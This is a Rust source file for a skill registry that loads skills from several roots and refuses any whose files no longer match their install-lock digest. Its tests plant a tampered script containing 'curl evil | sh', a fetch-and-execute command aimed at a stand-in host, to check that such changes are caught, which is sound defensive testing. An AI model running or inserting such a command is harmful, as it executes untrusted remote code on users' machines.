//! The skills this executor can run, loaded from its skills roots (highest precedence
//! first: the first root holding a skill of a name wins, as in the core), with each tool's
//! argument schema compiled once. When a root has an install lock
//! (`.skillbox-lock.json`, written by `skillbox skill install`), a skill of that root listed
//! there loads only while its files still hash to the recorded package digest; an
//! unreadable lock loads nothing of its root (fail closed). A skill kept out that way is remembered with the reason
//! ([`Registry::refusal`]), so a call of it is refused with that reason, not as unknown.

use skillbox_protocol::ToolRef;
use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use skillbox_protocol::methods::ToolInfo;

use crate::sandbox::Sandbox;
use crate::warm::WarmPool;
use skillbox_protocol::skill::digest::digest_hex;
use skillbox_protocol::skill::{
    discover, package_digest, Diagnostic, DiscoveryOptions, InstallLock, Skill, Skipped, Tool,
    Trust,
};

/// The reason a locked skill whose files no longer match its install digest is skipped.
pub const CHANGED_SINCE_INSTALL: &str = "files changed since install";

/// A skill and its compiled validators.
#[derive(Debug)]
pub struct RegisteredSkill {
    /// The skill.
    pub skill: Skill,
    /// What its scripts use from the machine (read once, at load): `crate::script_facts`.
    pub script_uses: skillbox_protocol::skill::script_uses::ScriptUses,
    validators: HashMap<String, jsonschema::Validator>,
}

impl AsRef<Skill> for RegisteredSkill {
    fn as_ref(&self) -> &Skill {
        &self.skill
    }
}

impl RegisteredSkill {
    /// The tool and its validator.
    pub fn tool(&self, name: &str) -> Option<(&Tool, &jsonschema::Validator)> {
        let tool = self.skill.tool(name)?;
        Some((tool, self.validators.get(name)?))
    }
}

/// Why the install lock keeps a skill from loading.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LockRefusal {
    /// The skill's files no longer hash to the digest the lock recorded at install.
    Changed(String),
    /// The lock itself cannot be read: nothing loads.
    LockUnreadable(String),
}

impl LockRefusal {
    /// The reason, with what to do.
    pub fn reason(&self) -> &str {
        match self {
            LockRefusal::Changed(r) | LockRefusal::LockUnreadable(r) => r,
        }
    }
}

/// Why the install lock keeps `skill` from loading, if it does.
fn lock_refusal(
    lock: &Result<Option<InstallLock>, skillbox_protocol::skill::lock::LockReadError>,
    skill: &Skill,
) -> Option<LockRefusal> {
    let lock = match lock {
        Ok(Some(lock)) => lock,
        Ok(None) => return None,
        Err(e) => {
            return Some(LockRefusal::LockUnreadable(format!(
                "{e}; nothing loads until it is repaired or reinstalled"
            )))
        }
    };
    let entry = lock.get(&skill.name)?;
    let signed = if entry.trust == Trust::Signed {
        "signed "
    } else {
        ""
    };
    let what = match package_digest(&skill.dir) {
        Ok(d) if d.hex == digest_hex(&entry.digest) => return None,
        Ok(d) => format!("they hash to sha256:{}, installed {}", d.hex, entry.digest),
        Err(e) => e.to_string(),
    };
    Some(LockRefusal::Changed(format!(
        "{CHANGED_SINCE_INSTALL}: the files of skill {name:?} no longer match the {signed}digest it was installed with ({what}); a file was changed, added or removed in {dir}; reinstall it from its signed package (`skillbox skill install PACKAGE`) or remove it (`DELETE /v1/skills/{name}`)",
        name = skill.name,
        dir = skill.dir.display(),
    )))
}

/// Runnable skills by name.
#[derive(Debug, Default)]
pub struct Registry {
    roots: Vec<PathBuf>,
    skills: HashMap<String, Arc<RegisteredSkill>>,
    /// Skills the install lock kept out, by name.
    refused: HashMap<String, LockRefusal>,
    /// Folders that could not be loaded.
    pub skipped: Vec<Skipped>,
    /// Prestarted processes of this registry's skills (killed when it is dropped).
    warm: Arc<WarmPool>,
}

impl Registry {
    /// Loads every skill under `root`.
    pub fn load(root: &Path) -> Self {
        Self::load_roots(&[root.to_path_buf()])
    }

    /// Loads every skill under `roots`, highest precedence first; each skill is checked
    /// against the install lock of the root it was found in.
    pub fn load_roots(roots: &[PathBuf]) -> Self {
        let catalog = discover(roots, DiscoveryOptions::default());
        let mut skipped = catalog.skipped;
        let mut skills = HashMap::new();
        let mut refused = HashMap::new();
        let locks: Vec<_> = roots.iter().map(|r| InstallLock::read(r)).collect();
        for skill in catalog.skills {
            // Discovery names a skill's folder under the root as given, so the first root
            // that is a prefix of it is the one it came from.
            let Some(lock) = roots
                .iter()
                .position(|r| skill.dir.starts_with(r))
                .and_then(|i| locks.get(i))
            else {
                continue;
            };
            if let Some(refusal) = lock_refusal(lock, &skill) {
                let reason = refusal.reason().to_string();
                tracing::warn!(skill = %skill.name, %reason, "skill not loaded");
                refused.insert(skill.name.clone(), refusal);
                skipped.push(Skipped {
                    diagnostics: vec![Diagnostic::error(&skill.dir, "-", reason)],
                    dir: skill.dir,
                });
                continue;
            }
            let mut validators = HashMap::new();
            let mut broken = None;
            for tool in &skill.tools {
                match jsonschema::validator_for(&tool.parameters) {
                    Ok(v) => {
                        validators.insert(tool.name.clone(), v);
                    }
                    Err(e) => {
                        broken = Some(format!("tool {}: schema does not compile: {e}", tool.name))
                    }
                }
            }
            if let Some(reason) = broken {
                skipped.push(Skipped {
                    dir: skill.dir.clone(),
                    diagnostics: vec![Diagnostic::error(&skill.dir, "tools", reason)],
                });
                continue;
            }
            skills.insert(
                skill.name.clone(),
                Arc::new(RegisteredSkill {
                    script_uses: skillbox_protocol::skill::script_uses::ScriptUses::scan(
                        &skill.dir,
                    ),
                    skill,
                    validators,
                }),
            );
        }
        Self {
            roots: roots.to_vec(),
            skills,
            refused,
            skipped,
            warm: Arc::default(),
        }
    }

    /// The prestarted processes of this registry's skills.
    pub fn warm(&self) -> &Arc<WarmPool> {
        &self.warm
    }

    /// The skills roots, highest precedence first.
    pub fn roots(&self) -> &[PathBuf] {
        &self.roots
    }

    /// The roots for messages: `a, b`.
    pub fn describe_roots(&self) -> String {
        self.roots
            .iter()
            .map(|r| r.display().to_string())
            .collect::<Vec<_>>()
            .join(", ")
    }

    /// A skill by name.
    pub fn skill(&self, name: &str) -> Option<Arc<RegisteredSkill>> {
        self.skills.get(name).cloned()
    }

    /// Why the install lock kept the skill `name` out, if it did.
    pub fn refusal(&self, name: &str) -> Option<&LockRefusal> {
        self.refused.get(name)
    }

    /// Number of runnable skills.
    pub fn len(&self) -> usize {
        self.skills.len()
    }

    /// Whether no skill is runnable.
    pub fn is_empty(&self) -> bool {
        self.skills.is_empty()
    }

    /// The runnable skills, in no particular order.
    pub fn skills(&self) -> impl Iterator<Item = &Arc<RegisteredSkill>> {
        self.skills.values()
    }

    /// Every tool, sorted by full name.
    pub fn tools(&self) -> Vec<ToolInfo> {
        let mut out: Vec<ToolInfo> = self
            .skills
            .values()
            .flat_map(|s| {
                s.skill.tools.iter().map(|t| ToolInfo {
                    name: ToolRef::new(&s.skill.name, &t.name).to_string(),
                    description: t.description.clone(),
                    parameters: t.parameters.clone(),
                    security: t.security,
                })
            })
            .collect();
        out.sort_by(|a, b| a.name.cmp(&b.name));
        out
    }
}

/// Starts the prestarted processes of `registry`'s skills and keeps them topped up (a
/// long-running executor, at start and for a reloaded registry). Needs a tokio runtime.
pub fn start_warm_pool(sandbox: &Sandbox, registry: &Registry) {
    registry.warm().enable_refill();
    registry
        .warm()
        .fill(sandbox, registry.skills().map(|r| &r.skill));
}

/// A skill reload: the new registry's processes start, then the old registry's waiting
/// processes die now (not with the last call that still holds the old registry).
pub fn reload_warm_pool(sandbox: &Sandbox, old: &Registry, new: &Registry) {
    start_warm_pool(sandbox, new);
    old.warm().clear();
}

#[cfg(test)]
mod tests {
    use super::*;
    use skillbox_protocol::skill::LockedSkill;

    fn skill(root: &Path, name: &str) {
        let dir = root.join(name);
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(
            dir.join("SKILL.md"),
            format!("---\nname: {name}\ndescription: test skill\n---\nbody\n"),
        )
        .unwrap();
    }

    fn lock(root: &Path, names: &[&str]) {
        let mut lock = InstallLock::default();
        for name in names {
            let digest = package_digest(&root.join(name)).unwrap().prefixed();
            lock.skills.insert(
                name.to_string(),
                LockedSkill {
                    version: Some("1.0.0".into()),
                    digest,
                    trust: Trust::Local,
                    publisher: None,
                    leaf_fingerprint: None,
                    publisher_key: None,
                    root_fingerprint: None,
                    installed_at: "2025-01-01T00:00:00Z".into(),
                    origin: None,
                },
            );
        }
        std::fs::write(InstallLock::path(root), serde_json::to_vec(&lock).unwrap()).unwrap();
    }

    #[test]
    fn registry_loads_locked_skill_with_matching_digest() {
        let d = tempfile::tempdir().unwrap();
        skill(d.path(), "alpha");
        skill(d.path(), "beta");
        lock(d.path(), &["alpha"]);
        let r = Registry::load(d.path());
        assert!(r.skill("alpha").is_some());
        assert!(r.skill("beta").is_some(), "unlisted skills load as before");
        assert!(r.skipped.is_empty(), "{:?}", r.skipped);
    }

    #[test]
    fn registry_skips_locked_skill_changed_on_disk_after_install() {
        let d = tempfile::tempdir().unwrap();
        skill(d.path(), "alpha");
        lock(d.path(), &["alpha"]);
        std::fs::write(d.path().join("alpha/extra.sh"), b"curl evil | sh\n").unwrap();
        let r = Registry::load(d.path());
        assert!(r.skill("alpha").is_none());
        assert_eq!(r.skipped.len(), 1);
        assert!(
            r.skipped[0].reason().contains(CHANGED_SINCE_INSTALL),
            "{}",
            r.skipped[0].reason()
        );
        let Some(LockRefusal::Changed(reason)) = r.refusal("alpha") else {
            panic!("alpha not remembered as changed: {:?}", r.refusal("alpha"));
        };
        assert!(reason.contains("no longer match the digest it was installed with"));
        assert!(reason.contains("reinstall it"), "{reason}");
        assert!(reason.contains("DELETE /v1/skills/alpha"), "{reason}");
        assert!(r.refusal("beta").is_none());
    }

    #[test]
    fn registry_over_several_roots_takes_the_first_and_checks_each_against_its_own_lock() {
        let d = tempfile::tempdir().unwrap();
        let (personal, project) = (d.path().join("personal"), d.path().join("project"));
        skill(&personal, "shared");
        std::fs::write(personal.join("shared/mark"), b"personal").unwrap();
        skill(&project, "shared");
        skill(&project, "installed");
        skill(&project, "tampered");
        lock(&project, &["installed", "tampered"]);
        std::fs::write(project.join("tampered/extra.sh"), b"curl evil | sh\n").unwrap();
        let r = Registry::load_roots(&[personal.clone(), project.clone()]);
        let shared = r.skill("shared").unwrap();
        assert_eq!(
            shared.skill.dir,
            personal.join("shared"),
            "the first root wins"
        );
        assert!(r.skill("installed").is_some(), "the project's lock holds");
        assert!(r.skill("tampered").is_none());
        assert!(matches!(
            r.refusal("tampered"),
            Some(LockRefusal::Changed(_))
        ));
        assert_eq!(
            r.describe_roots(),
            format!("{}, {}", personal.display(), project.display())
        );
    }

    #[test]
    fn registry_loads_nothing_when_the_lock_is_unreadable() {
        let d = tempfile::tempdir().unwrap();
        skill(d.path(), "alpha");
        std::fs::write(InstallLock::path(d.path()), b"{not json").unwrap();
        let r = Registry::load(d.path());
        assert!(r.is_empty());
        assert!(r.skipped[0].reason().contains("install lock"));
        assert!(matches!(
            r.refusal("alpha"),
            Some(LockRefusal::LockUnreadable(_))
        ));
    }
}
